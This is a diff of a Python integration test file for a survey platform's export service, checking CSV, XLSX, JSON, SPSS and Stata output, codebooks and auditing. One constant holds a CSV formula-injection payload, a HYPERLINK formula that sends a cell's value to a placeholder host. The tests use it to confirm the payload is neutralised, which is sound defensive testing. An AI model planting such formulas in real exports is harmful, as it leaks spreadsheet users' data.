@@ -3,6 +3,7 @@
 import csv
 import io
 import json
+import re
 import zipfile
 from pathlib import Path
 
@@ -11,27 +12,13 @@ import pyreadstat
 import pytest
 import sqlalchemy as sa
 
-from survey.exports.dataset import (
-    LONG_COLUMNS,
-    SUBMISSION_COLUMNS,
-    Filters,
-    instruments_in,
-    wide_variables,
-)
-from survey.exports.service import FORMATS, build_export
+from survey.exports.dataset import Filters
+from survey.exports.service import FORMATS, ExportError, build_export
 from survey.extensions import db
-from survey.instruments import get_registry
-from survey.instruments.model import MISSING_VALUES
-from survey.models import (
-    Answer,
-    AuditEvent,
-    MissingCode,
-    Participant,
-    Round,
-    Submission,
-)
+from survey.models import Answer, AuditEvent, Group, Participant, Round, Submission
 from survey.pseudonyms import research_id
 from tests.integration.conftest import COORDINATOR, EVALUATOR
+from tests.integration.exports import expected
 
 INJECTION = '=HYPERLINK("http://x/?"&A1)'
 
@@ -48,27 +35,18 @@ def baseline(study):
     return next(round_ for round_ in study.rounds if round_.name == "baseline")
 
 
-def expected_answers(app, study, round_):
-    """Return {(research id, item): exported number} straight from the database."""
-    key = app.config["PSEUDONYM_KEY"]
-    rows = db.session.execute(
-        sa.select(Participant.id, Answer.item_id, Answer.value, Answer.missing_code)
-        .join(Submission, Submission.participant_id == Participant.id)
-        .join(Answer, Answer.submission_id == Submission.id)
-        .where(Submission.round_id == round_.id)
-    )
-    return {
-        (research_id(study.id, pid, key), item): value
-        if value is not None
-        else MISSING_VALUES[missing]
-        for pid, item, value, missing in rows
-    }
-
-
-def export_text(filters, export_format):
-    export = build_export(filters, export_format, actor_user_id=None)
+def export_text(filters, export_format, language="da"):
+    export = build_export(filters, export_format, actor_user_id=None, language=language)
     db.session.commit()
     return "".join(export.chunks)
+
+
+def csv_rows(text):
+    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
+
+
+def number(cell):
+    return None if cell in ("", None) else int(cell)
 
 
 def export_file(filters, export_format, tmp_path):
@@ -83,47 +61,100 @@ def test_long_csv_matches_the_database(app, demo):
     round_ = baseline(demo)
     text = export_text(Filters(demo, round_), "csv-long")
     assert text.startswith("\ufeff")
-    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
-    assert tuple(rows[0]) == LONG_COLUMNS
-    got = {(row["research_id"], row["item"]): int(row["value"]) for row in rows}
-    assert got == expected_answers(app, demo, round_)
-    missing = {row["missing"] for row in rows}
-    assert {code.value for code in MissingCode} <= missing
+    rows = csv_rows(text)
+    assert list(rows[0]) == expected.LONG_COLUMNS
+    answered = [row for row in rows if row["item"]]
+    got = {(row["research_id"], row["item"]): int(row["value"]) for row in answered}
+    assert len(got) == len(answered)
+    assert got == expected.as_given(app, demo, round_)
+    assert {row["missing"] for row in rows} >= set(expected.MISSING)
     assert all(row["started_on"] and "T" not in row["started_on"] for row in rows)
+    wide = expected.wide_values(app, demo, round_)
+    for row in answered:
+        if row["scale"] in expected.RUNG:
+            key = (row["research_id"], row["item"])
+            assert number(row["harmonised"]) == wide[key]
+            assert number(row["common"]) == wide[(key[0], f"{row['item']}_any")]
+        else:
+            assert row["harmonised"] == row["value"] and row["common"] == ""
+
+
+def test_every_format_holds_the_same_submissions_declined_included(app, demo, tmp_path):
+    round_ = baseline(demo)
+    filters = Filters(demo, round_)
+    statuses = expected.submissions(app, demo, round_)
+    assert "declined" in statuses.values()
+    long = {
+        (row["research_id"], row["status"]) for row in csv_rows(export_text(filters, "csv-long"))
+    }
+    wide = [
+        (row["research_id"], row["status"]) for row in csv_rows(export_text(filters, "csv-wide"))
+    ]
+    document = json.loads(export_text(filters, "json"))
+    in_json = [(s["research_id"], s["status"]) for s in document["submissions"]]
+    frame, _meta = pyreadstat.read_sav(str(export_file(filters, "sav", tmp_path)))
+    in_sav = list(zip(frame["research_id"], frame["status"], strict=True))
+    assert long == set(wide) == set(in_json) == set(in_sav) == set(statuses.items())
+    assert len(wide) == len(in_json) == len(in_sav) == len(statuses)
+    declined = [s for s in document["submissions"] if s["status"] == "declined"]
+    assert declined and all(s["answers"] == [] for s in declined)
+
+
+def test_participation_lists_everyone_registered_including_never_started(app, demo):
+    rows = csv_rows(export_text(Filters(demo), "participation"))
+    assert list(rows[0]) == expected.PARTICIPATION_COLUMNS
+    got = {(row["research_id"], row["round"]): row["status"] for row in rows}
+    assert len(got) == len(rows)
+    assert got == expected.participation(app, demo)
+    assert {"not_started", "completed", "declined", "in_progress"} <= set(got.values())
+    children = [row for row in rows if row["group"] == "child"]
+    assert children and all(row["age_band"] in ("6-9", "10-12", "13-18") for row in children)
 
 
 def test_wide_csv_matches_the_database_and_has_scores(app, demo):
     round_ = baseline(demo)
-    rows = list(
-        csv.DictReader(io.StringIO(export_text(Filters(demo, round_), "csv-wide").lstrip("\ufeff")))
-    )
-    expected = expected_answers(app, demo, round_)
+    rows = csv_rows(export_text(Filters(demo, round_), "csv-wide"))
+    wide = expected.wide_values(app, demo, round_)
     got = {
-        (row["research_id"], item): int(row[item])
+        (row["research_id"], column): number(row[column])
         for row in rows
-        for item in row
-        if (row["research_id"], item) in expected
+        for column in row
+        if (row["research_id"], column) in wide
     }
-    assert got == expected
-    assert len(rows) == db.session.scalar(
-        sa.select(sa.func.count()).select_from(Submission).where(Submission.round_id == round_.id)
-    )
+    assert got == wide
+    items = [column for column in expected.WIDE_COLUMNS if re.match(r"^[a-z]{2}_\d\d", column)]
+    filled = {(row["research_id"], column) for row in rows for column in items if row[column]}
+    assert filled == {key for key, value in wide.items() if value is not None}
+    assert len(rows) == len(expected.submissions(app, demo, round_))
     assert any(row["cw_wellbeing"] for row in rows)
     assert all(1 <= float(row["sw_wellbeing"]) <= 5 for row in rows if row["sw_wellbeing"])
     assert {
         row["scale_steps"]
         for row in rows
         if row["group"] == "child" and row["status"] != "declined"
-    } <= {"2", "3", "5"}
+    } == {"2", "3", "5"}
+
+
+@pytest.mark.parametrize(
+    ("suffix", "allowed"),
+    [("_any", {1, 2}), ("_r5", {1, 2, 3, 4, 5}), ("_r3", {1, 2, 3}), ("_r2", {1, 2})],
+)
+def test_each_child_variable_holds_codes_of_one_scale(app, demo, suffix, allowed):
+    rows = csv_rows(export_text(Filters(demo, baseline(demo), group=Group.CHILD), "csv-wide"))
+    names = [c for c in expected.WIDE_COLUMNS if re.match(rf"^(cw|ci|sc)_\d\d{suffix}$", c)]
+    assert len(names) == 24
+    values = {number(row[name]) for row in rows for name in names} - {None}
+    assert values - {-1, -2, -3} == allowed
 
 
 def test_only_allow_listed_columns_and_no_identifiers(app, demo):
     round_ = baseline(demo)
-    variables = [
-        v.name for v in wide_variables(instruments_in(Filters(demo, round_), get_registry()))
-    ]
-    expected = {"csv-long": list(LONG_COLUMNS), "csv-wide": [*SUBMISSION_COLUMNS, *variables]}
-    for export_format, columns in expected.items():
+    expected_headers = {
+        "csv-long": expected.LONG_COLUMNS,
+        "csv-wide": expected.WIDE_COLUMNS,
+        "participation": expected.PARTICIPATION_COLUMNS,
+    }
+    for export_format, columns in expected_headers.items():
         text = export_text(Filters(demo, round_), export_format)
         header = next(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
         assert header == columns
@@ -132,21 +163,35 @@ def test_only_allow_listed_columns_and_no_identifiers(app, demo):
             assert f",{participant.label}," not in text if participant.label else True
 
 
-def test_formula_injection_is_neutralised_in_csv_and_xlsx(app, demo, tmp_path):
+@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
+def test_each_formula_prefix_is_neutralised_in_csv(app, demo, prefix):
+    demo.sites[0].name = prefix + "1+1"
+    db.session.commit()
+    for export_format in ("csv-long", "csv-wide", "participation"):
+        rows = list(
+            csv.reader(io.StringIO(export_text(Filters(demo, baseline(demo)), export_format)))
+        )
+        sites = {row[1] for row in rows[1:]}
+        assert "'" + prefix + "1+1" in sites
+        assert prefix + "1+1" not in sites
+
+
+def test_xlsx_keeps_text_as_text(app, demo, tmp_path):
     round_ = baseline(demo)
-    rows = list(
-        csv.reader(io.StringIO(export_text(Filters(demo, round_), "csv-long").lstrip("\ufeff")))
-    )
-    sites = {row[1] for row in rows[1:]}
-    assert "'" + INJECTION in sites
-    assert INJECTION not in sites
-    workbook = openpyxl.load_workbook(
-        export_file(Filters(demo, round_), "xlsx", tmp_path), read_only=True
-    )
+    path = export_file(Filters(demo, round_), "xlsx", tmp_path)
+    workbook = openpyxl.load_workbook(path, read_only=True)
     cells = [row[1] for row in workbook["data"].iter_rows(min_row=2, values_only=True)]
-    assert "'" + INJECTION in cells
-    assert not any(isinstance(cell, str) and cell.startswith("=") for cell in cells)
-    assert len(list(workbook["codebook"].iter_rows(values_only=True))) > 50
+    assert INJECTION in cells  # shown as the text it is, without a prefix ...
+    with zipfile.ZipFile(path) as book:
+        sheets = [name for name in book.namelist() if name.startswith("xl/worksheets/")]
+        assert not any("<f>" in book.read(name).decode() for name in sheets)  # ... never run
+    codebook = list(workbook["codebook"].iter_rows(values_only=True))
+    assert len(codebook) > 100
+    values = next(row[2] for row in codebook if row[0] == "cw_04_r3")
+    assert values == (
+        "-3 = Ikke vist; -2 = Ved ikke; -1 = Vil ikke svare; 1 = Aldrig; 2 = Nogle gange; 3 = Tit"
+    )
+    assert not any(str(cell).startswith("'") for row in codebook for cell in row if cell)
 
 
 def test_xlsx_matches_the_database(app, demo, tmp_path):
@@ -156,38 +201,73 @@ def test_xlsx_matches_the_database(app, demo, tmp_path):
     )
     rows = list(workbook["data"].iter_rows(values_only=True))
     header, body = rows[0], rows[1:]
-    expected = expected_answers(app, demo, round_)
+    assert list(header) == expected.WIDE_COLUMNS
+    wide = expected.wide_values(app, demo, round_)
     got = {
         (row[0], column): value
         for row in body
         for column, value in zip(header, row, strict=False)
-        if (row[0], column) in expected
+        if (row[0], column) in wide
     }
-    assert got == expected
+    assert got == wide
 
 
 @pytest.mark.parametrize("kind", ["sav", "dta"])
-def test_spss_and_stata_files_carry_labels_and_values(app, demo, tmp_path, kind):
+def test_spss_and_stata_files_carry_labels_values_and_dates(app, demo, tmp_path, kind):
     round_ = baseline(demo)
     path = export_file(Filters(demo, round_), kind, tmp_path)
-    reader = pyreadstat.read_sav if kind == "sav" else pyreadstat.read_dta
-    frame, meta = reader(str(path), user_missing=True) if kind == "sav" else reader(str(path))
+    if kind == "sav":
+        frame, meta = pyreadstat.read_sav(str(path), user_missing=True)
+    else:
+        frame, meta = pyreadstat.read_dta(str(path), user_missing=True)
     labels = meta.column_names_to_labels
-    assert labels["cw_01"] == "Er du glad for at bo her?"
+    assert labels["cw_01"] == "Er du glad for at bo her? (5-punktsskala)"
+    assert labels["cw_01_r3"] == "Er du glad for at bo her? (som svaret med 3 svarmuligheder)"
     assert labels["sk_01"].startswith("Jeg kan se de tidlige tegn")
     value_labels = meta.variable_value_labels
     assert value_labels["sk_01"][5] == "Helt enig"
-    assert value_labels["sk_01"][-2] == "Ved ikke"
-    assert value_labels["cw_01"][-1] == "Vil ikke svare"
-    if kind == "sav":
-        assert meta.missing_ranges["sk_01"]
-    expected = expected_answers(app, demo, round_)
+    assert value_labels["cw_04"] == {
+        **({-1: "Vil ikke svare", -2: "Ved ikke", -3: "Ikke vist"} if kind == "sav" else {}),
+        **({"a": "Vil ikke svare", "b": "Ved ikke", "c": "Ikke vist"} if kind == "dta" else {}),
+        **dict(enumerate(expected.FIVE_POINT_LABELS["frequency"], start=1)),
+    }
+    wide = expected.wide_values(app, demo, round_)
+    stata = {"a": -1, "b": -2, "c": -3}
     got = {}
     for _index, row in frame.iterrows():
         for column in frame.columns:
-            if (row["research_id"], column) in expected:
-                got[(row["research_id"], column)] = int(row[column])
-    assert got == expected
+            if (row["research_id"], column) in wide:
+                cell = row[column]
+                got[(row["research_id"], column)] = (
+                    stata[cell] if isinstance(cell, str) else None if cell != cell else int(cell)
+                )
+    assert got == wide
+    if kind == "sav":
+        assert meta.missing_ranges["cw_04"] == [
+            {"lo": -3.0, "hi": -3.0},
+            {"lo": -2.0, "hi": -2.0},
+            {"lo": -1.0, "hi": -1.0},
+        ]
+    else:
+        # Stata's missing values are the same in every variable; the reader lists those in use.
+        used = {code for codes in meta.missing_user_values.values() for code in codes}
+        assert used == {"a", "b", "c"}
+        assert {"a", "b"} <= set(meta.missing_user_values["sk_04"])
+    # What Stata's `summarize` and SPSS's DESCRIPTIVES average: answers only.
+    given = [
+        v for (_rid, item), v in expected.as_given(app, demo, round_).items() if item == "sk_04"
+    ]
+    answered = [value for value in given if value > 0]
+    assert len(answered) < len(given)
+    numbers = [cell for cell in frame["sk_04"] if not isinstance(cell, str) and cell == cell]
+    if kind == "sav":
+        numbers = [cell for cell in numbers if cell > 0]  # user-missing, as SPSS leaves them out
+    assert sum(numbers) / len(numbers) == pytest.approx(sum(answered) / len(answered))
+    dates = dict(zip(frame["research_id"], frame["started_on"], strict=True))
+    rows = csv_rows(export_text(Filters(demo, round_), "csv-wide"))
+    assert {rid: day.isoformat() for rid, day in dates.items()} == {
+        row["research_id"]: row["started_on"] for row in rows
+    }
 
 
 def test_json_groups_answers_by_submission(app, demo):
@@ -199,7 +279,7 @@ def test_json_groups_answers_by_submission(app, demo):
         for submission in document["submissions"]
         for answer in submission["answers"]
     }
-    assert got == expected_answers(app, demo, round_)
+    assert got == expected.as_given(app, demo, round_)
 
 
 def test_rounds_export_has_one_row_per_participant_with_round_suffixes(app, demo):
@@ -238,6 +318,7 @@ def test_bundle_holds_every_part(app, demo, tmp_path):
         assert names == {
             "data-long.csv",
             "data-wide.csv",
+            "participation.csv",
             "value-labels.csv",
             "data.sav",
             "data.dta",
@@ -258,7 +339,8 @@ def test_filters_narrow_the_export(app, demo):
     rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
     assert rows
     assert {row["site"] for row in rows} == {site.name}
-    assert {row["instrument"] for row in rows} == {"staff_wellbeing"}
+    assert {row["group"] for row in rows} == {"staff"}  # only those given the questionnaire
+    assert {row["instrument"] for row in rows if row["item"]} == {"staff_wellbeing"}
 
 
 def test_every_export_is_audited(app, demo):
@@ -368,7 +450,8 @@ def test_cli_export_writes_the_file(runner, demo, tmp_path):
     )
     assert result.exit_code == 0, result.output
     assert out.read_text(encoding="utf-8-sig").startswith("research_id,")
-    assert "cw_01" in (tmp_path / "export.codebook.md").read_text(encoding="utf-8")
+    codebook = (tmp_path / "export.csv-wide.codebook.md").read_text(encoding="utf-8")
+    assert codebook.startswith("# Kodebog") and "`cw_01_r3`" in codebook
     bad = runner.invoke(
         args=["export", "--study", "nope", "--format", "csv-wide", "--out", str(out)]
     )
@@ -398,3 +481,90 @@ def test_round_filter_keeps_other_rounds_out(app, demo):
     follow_up = next(r for r in demo.rounds if r.name == "follow-up")
     assert export_text(Filters(demo, follow_up), "csv-long").count("\r\n") == 1  # header only
     assert isinstance(follow_up, Round)
+
+
+def test_filters_matching_no_questionnaire_are_refused(app, demo, runner, tmp_path):
+    filters = Filters(demo, baseline(demo), group=Group.STAFF, instrument="child_wellbeing")
+    with pytest.raises(ExportError, match="No questionnaire 'child_wellbeing' was given for staff"):
+        build_export(filters, "csv-wide", actor_user_id=None)
+    out = tmp_path / "x.csv"
+    result = runner.invoke(
+        args=[
+            *("export", "--study", "demo", "--round", "baseline", "--group", "staff"),
+            *("--instrument", "child_wellbeing", "--format", "sav", "--out", str(out)),
+        ]
+    )
+    assert result.exit_code == 2
+    assert result.output.startswith("Error: No questionnaire 'child_wellbeing'")
+    assert not out.exists()
+    assert (
+        db.session.scalar(
+            sa.select(sa.func.count())
+            .select_from(AuditEvent)
+            .where(AuditEvent.action == "export.download")
+        )
+        == 0
+    )
+
+
+def test_export_page_explains_filters_matching_no_questionnaire(sign_in_as, demo):
+    client = sign_in_as(EVALUATOR)
+    data = {
+        "round_id": str(baseline(demo).id),
+        "site_id": "",
+        "group": "staff",
+        "instrument": "child_wellbeing",
+        "export_format": "sav",
+        "language": "da",
+    }
+    response = client.post(f"/admin/exports/{demo.id}", data=data)
+    assert response.status_code == 422
+    assert "Intet spørgeskema passer til disse valg" in response.get_data(as_text=True)
+
+
+def test_sidecar_codebooks_are_named_per_format_and_speak_english_on_request(
+    runner, demo, tmp_path
+):
+    for export_format in ("csv-long", "csv-wide", "sav"):
+        result = runner.invoke(
+            args=[
+                *("export", "--study", "demo", "--round", "baseline", "--lang", "en"),
+                *("--format", export_format, "--out", str(tmp_path / f"demo.{export_format}")),
+            ]
+        )
+        assert result.exit_code == 0, result.output
+    names = sorted(path.name for path in tmp_path.glob("*.codebook.md"))
+    assert names == [
+        "demo.csv-long.codebook.md",
+        "demo.csv-wide.codebook.md",
+        "demo.sav.codebook.md",
+    ]
+    codebook = (tmp_path / "demo.sav.codebook.md").read_text(encoding="utf-8")
+    assert codebook.startswith("# Codebook")
+    assert (
+        "| `cw_04_r3` | Do the adults help you when you are sad? (as answered on 3 choices) |"
+        in codebook
+    )
+    _frame, meta = pyreadstat.read_sav(str(tmp_path / "demo.sav"))
+    assert meta.variable_value_labels["cw_04"][4] == "Often"
+
+
+def test_codebook_documents_every_column_and_score(app, demo):
+    text = export_text(Filters(demo, baseline(demo)), "codebook")
+    for column in [*expected.LONG_COLUMNS, *expected.WIDE_COLUMNS, *expected.PARTICIPATION_COLUMNS]:
+        assert f"`{column}`" in text, column
+    assert (
+        "- `ss_force` — Magtanvendelse: sum (forholdsmæssigt opregnet) af `ss_05`; mindst 100 % "
+        "besvaret; interval 1–5; højere er værre"
+    ) in text
+    assert "højere er bedre" in text
+    english = export_text(Filters(demo, baseline(demo)), "codebook", language="en")
+    assert "## Scale scores" in english and "higher is worse" in english
+
+
+def test_sav_variable_labels_keep_up_to_256_bytes(app, demo, tmp_path):
+    path = export_file(Filters(demo, baseline(demo)), "sav", tmp_path)
+    _frame, meta = pyreadstat.read_sav(str(path))
+    label = "Har en voksen her holdt fast i dig de sidste 4 uger? (som svaret med 5 svarmuligheder)"
+    assert len(label) > 80
+    assert meta.column_names_to_labels["sc_04_r5"] == label
